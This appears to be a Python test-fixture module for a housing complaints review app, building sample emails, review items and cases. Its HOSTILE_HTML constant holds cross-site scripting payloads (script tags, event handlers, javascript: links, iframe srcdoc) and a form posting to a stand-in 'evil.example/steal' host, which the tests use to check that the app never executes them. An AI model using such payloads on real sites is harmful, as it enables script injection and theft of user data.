"""Rows and raw bytes for the review app's tests: items waiting for review as triage stores
them (classification, fields, raw bytes in the content-addressed store), cases and users."""

from __future__ import annotations

import re
from datetime import UTC, date, datetime, timedelta
from email.message import EmailMessage

from core.settings import Settings
from models.db import session_scope
from models.rawstore import store_raw
from models.tables import Case, CaseEvent, Classification, ExtractedFields, Item

PASSWORD = "correct horse battery"
HOSTILE = "<script>alert(1)</script>"
# Each would set window.__pwned if it ever ran; the browser test asserts it never does.
HOSTILE_HTML = """<html><body>
<p>Dear housing team, <b>the damp is back</b>.</p>
<script>window.__pwned = "script";</script>
<img src="x" onerror="window.__pwned = 'onerror'">
<svg onload="window.__pwned = 'svg'"><circle r="5"></circle></svg>
<p onclick="window.__pwned = 'onclick'">Click here, officer.</p>
<a id="evil-link" href="javascript:window.__pwned='javascript-link'">see the photos</a>
<a href="https://example.org/photos">real link</a>
<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>
<form action="https://evil.example/steal"><input name="q"><button>go</button></form>
<style>body { display: none }</style>
<object data="javascript:window.__pwned='object'"></object>
</body></html>"""


def email_bytes(subject: str, body: str, html: str | None = None,
                sender: str = "Dana Resident <dana@example.com>") -> bytes:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = "complaints@northbrook-homes.example.org"
    message["Subject"] = subject
    message["Date"] = "Mon, 02 Mar 2026 10:00:00 +0000"
    message["Message-ID"] = f"<{abs(hash((subject, body))) % 10**12}@example.com>"
    message.set_content(body)
    if html is not None:
        message.add_alternative(html, subtype="html")
    return message.as_bytes()


def add_waiting_item(settings: Settings, *, subject: str, text: str, category: str,
                     confidence: float, received: datetime, hazard: str | None = None,
                     excluded_reason: str | None = None, source: str = "email",
                     raw: bytes | None = None, review_due: date | None = None,
                     reason: str = "low-confidence", name: str | None = None,
                     postcode: str | None = None, status: str = "needs_review") -> int:
    """An item as triage leaves one it sends to an officer."""
    raw = raw if raw is not None else email_bytes(subject, text)
    digest, relative = store_raw(settings.raw_dir, raw)
    others = [c for c in ("complaint", "service_request", "excluded", "compliment", "other")
              if c != category]
    probabilities = {category: confidence,
                     **{c: round((1 - confidence) / len(others), 4) for c in others}}
    with session_scope(settings.resolved_database_url) as session:
        item = Item(source=source, source_ref=f"test:{digest[:8]}", sha256=digest,
                    raw_path=relative, size_bytes=len(raw), received_at=received,
                    subject=subject, text=text, text_source="body", status=status,
                    hazard=hazard, review_due=review_due or (received.date() + timedelta(7)),
                    review_reason=reason)
        session.add(item)
        session.flush()
        session.add(Classification(
            item_id=item.id, category=category, excluded_reason=excluded_reason,
            hazard=hazard, confidence=confidence, probabilities=probabilities,
            model_version="test", needs_review=True,
            action="propose_exclusion" if category == "excluded" else "open_case",
            rule_results={"results": [{"rule": reason, "hit": True,
                                       "reason": "damp & mould <b>named</b>"}]},
            policy="code-2024"))
        session.add(ExtractedFields(item_id=item.id, name=name, postcode=postcode, staff=[]))
        return item.id


def add_case(settings: Settings, ref: str, *, respond_by: date, acknowledge_by: date | None,
             name: str, postcode: str, stage: int = 1, status: str = "open") -> int:
    with session_scope(settings.resolved_database_url) as session:
        case = Case(ref=ref, policy="code-2024", stage=stage, status=status,
                    received_at=datetime(2026, 3, 2, 10, tzinfo=UTC),
                    stage_started=date(2026, 2, 2),
                    acknowledge_by=acknowledge_by, respond_by=respond_by, name=name,
                    postcode=postcode, handler="complaints officer")
        session.add(case)
        session.flush()
        session.add(CaseEvent(case_id=case.id, kind="opened", stage=stage,
                              detail={"respond_by": respond_by.isoformat()}))
        return case.id


def csrf_of(html: str) -> str:
    match = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert match, "no CSRF token in the page"
    return match.group(1)
